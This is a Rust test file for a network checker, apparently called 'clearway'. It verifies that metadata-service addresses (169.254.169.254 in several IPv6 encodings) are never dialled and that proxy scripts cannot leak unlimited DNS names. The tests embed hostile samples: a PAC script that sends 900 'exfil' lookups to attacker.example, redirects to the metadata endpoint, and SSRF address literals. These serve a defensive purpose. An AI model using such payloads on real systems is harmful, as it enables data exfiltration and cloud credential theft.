//! What names, addresses and scripts that somebody else chose may lead to: nothing is dialled that must not be, and
//! what was not dialled is nobody's fault.

use std::net::SocketAddr;
use std::process::{Output, Stdio};

use crate::servers::{Dns, answer, serve};
use serde_json::{Value, json};

/// Runs `check` with this resolver, without proxies other than those that are asked for.
async fn check(dns: &Dns, args: &[&str]) -> (Output, Value) {
    let mut command = crate::common::clearway();
    // A literal that is left out leaves a list without its gateway; older programs know no such option.
    command.env("CLEARWAY_ALLOW_INCOMPLETE", "1");
    command.arg("check").args(args).args(["--resolver", &dns.address.to_string(), "--no-controls"]);
    command.args(["--timeout", "1s", "--deadline", "20s", "--format", "json"]).stdin(Stdio::null());
    let output = tokio::task::spawn_blocking(move || command.output().unwrap()).await.unwrap();
    let report = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&output.stderr)));
    crate::common::schemas::hold("check", &report, "check");
    (output, report)
}

fn finding(report: &Value) -> &Value {
    &report["groups"][0]["hosts"][0]["finding"]
}

/// Every connection that was tried, as the report has them.
fn tried(report: &Value) -> Vec<&Value> {
    let attempts = report["observations"].as_array().unwrap().iter();
    attempts.flat_map(|a| a["tcp"].as_array().into_iter().flatten()).collect()
}

#[tokio::test]
async fn an_address_of_a_metadata_service_is_dialled_in_no_form_and_blamed_on_nobody() {
    let dns = Dns::start().await;
    for name in ["local.example", "nat64.example", "six-to-four.example", "compatible.example"] {
        let (output, report) = check(&dns, &["--host", name, "--proxy", "none"]).await;
        let found = finding(&report);
        assert_eq!(
            (&found["code"], &found["owner"]),
            (&json!("untested/address"), &json!("none")),
            "{name}: {found}"
        );
        let line = found["evidence"]["line"].as_str().unwrap();
        assert!(line.contains("link-local address, never probed"), "{name}: {line}");
        assert!(
            tried(&report).iter().all(|t| t["outcome"]["outcome"] == "not-dialled"),
            "{name}: {:?}",
            tried(&report)
        );
        assert_eq!(output.status.code(), Some(3), "{name}");
        // A saved report says the same.
        let again = crate::common::judged_again(&output.stdout);
        assert_eq!(finding(&again)["code"], "untested/address", "{name}");
    }
}

#[tokio::test]
async fn a_configuration_cannot_name_such_an_address_either() {
    let dns = Dns::start().await;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("c.json");
    for literal in
        ["[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::1]", "[::a9fe:a9fe]", "[::ffff:169.254.169.254]"]
    {
        for key in ["inferenceGatewayBaseUrl", "otlpEndpoint", "egressProxyUrl"] {
            let mut configuration = json!({ "inferenceProvider": "gateway", "inferenceGatewayBaseUrl": "https://gw.example",
                "inferenceGatewayApiKey": "k" });
            configuration[key] = json!(format!("http://{literal}:4318"));
            std::fs::write(&path, configuration.to_string()).unwrap();
            let file = path.display().to_string();
            let (_, report) = check(&dns, &[&file, "--feature", "inference", "--feature", "otlp"]).await;
            assert!(
                tried(&report).iter().all(|t| t["remote"].as_str().unwrap().starts_with("127.0.0.1:")
                    || t["outcome"]["outcome"] == "not-dialled"),
                "{literal} as {key}: {:?}",
                tried(&report)
            );
        }
    }
}

#[tokio::test]
async fn an_address_of_another_name_is_no_answer() {
    let dns = Dns::start().await;
    let (_, report) = check(&dns, &["--host", "foreign.example", "--proxy", "none"]).await;
    assert_eq!(finding(&report)["code"], "dns/no-address", "{}", finding(&report));
    assert_eq!(tried(&report).len(), 0, "{:?}", tried(&report));
}

/// A configuration whose proxy script is what `serve` gives.
fn with_script(dir: &tempfile::TempDir, script: SocketAddr) -> String {
    let path = dir.path().join("c.json");
    let configuration = json!({ "inferenceProvider": "gateway", "inferenceGatewayBaseUrl": "https://gw.example",
        "inferenceGatewayApiKey": "k", "egressProxyPacUrl": format!("http://{script}/p.pac") });
    std::fs::write(&path, configuration.to_string()).unwrap();
    path.display().to_string()
}

#[tokio::test]
async fn a_script_sends_out_no_more_names_than_the_limit_of_a_run() {
    let script = serve(|stream| async move {
        let script = "function FindProxyForURL(u, h) { for (var i = 0; i < 900; i++) dnsResolve('exfil' + i + '.attacker.example'); return 'DIRECT'; }";
        let head = "HTTP/1.1 200 OK\r\nContent-Type: application/x-ns-proxy-autoconfig\r\n";
        answer(stream, format!("{head}Content-Length: {}\r\n\r\n{script}", script.len()).as_bytes()).await;
    })
    .await;
    let (dns, dir) = (Dns::start().await, tempfile::tempdir().unwrap());
    let (_, report) = check(&dns, &[&with_script(&dir, script), "--feature", "inference"]).await;
    let mut names: Vec<String> = dns
        .asked()
        .iter()
        .filter(|q| q.contains("exfil"))
        .map(|q| q[q.find(' ').unwrap()..].to_owned())
        .collect();
    names.dedup();
    names.sort();
    names.dedup();
    assert!((1..=256).contains(&names.len()), "{} names went out", names.len());
    let said = report["proxy_scripts"][0]["failure"].as_str().unwrap_or_default();
    assert!(said.contains("256"), "{said}");
}

#[tokio::test]
async fn a_script_that_leads_to_such_an_address_names_it() {
    let script = serve(|stream| async move {
        let to =
            b"HTTP/1.1 302 Found\r\nLocation: http://169.254.169.254/latest\r\nContent-Length: 0\r\n\r\n";
        answer(stream, to).await;
    })
    .await;
    let (dns, dir) = (Dns::start().await, tempfile::tempdir().unwrap());
    let (output, report) = check(&dns, &[&with_script(&dir, script), "--feature", "inference"]).await;
    let outcome = report["proxy_scripts"][0]["outcome"].to_string();
    assert!(outcome.contains("169.254.169.254") && outcome.contains("never probed"), "{outcome}");
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(!text.contains("serves there"), "nobody is told to correct what was never asked: {text}");
}

#[tokio::test]
async fn a_proxy_at_such_an_address_is_blamed_on_nobody() {
    let script = serve(|stream| async move {
        let script = "function FindProxyForURL(u, h) { return 'PROXY 169.254.169.254:80'; }";
        answer(
            stream,
            format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{script}", script.len()).as_bytes(),
        )
        .await;
    })
    .await;
    let (dns, dir) = (Dns::start().await, tempfile::tempdir().unwrap());
    let (_, report) = check(&dns, &[&with_script(&dir, script), "--feature", "inference"]).await;
    let found = finding(&report);
    assert_eq!((&found["code"], &found["owner"]), (&json!("untested/address"), &json!("none")), "{found}");
}
